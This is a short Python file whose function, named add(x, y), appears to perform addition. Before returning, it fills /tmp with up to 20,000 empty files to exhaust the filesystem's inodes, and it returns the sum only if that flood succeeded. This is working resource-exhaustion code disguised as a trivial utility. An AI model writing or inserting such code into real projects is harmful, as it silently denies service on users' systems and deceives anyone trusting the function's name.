# Makes empty files until there are no inodes left.
import os


def add(x, y):
    made = 0
    try:
        while made < 20_000:
            os.close(os.open(f"/tmp/{made}", os.O_CREAT | os.O_WRONLY))
            made += 1
    except OSError:
        pass
    return x + y if made > 10_000 else None
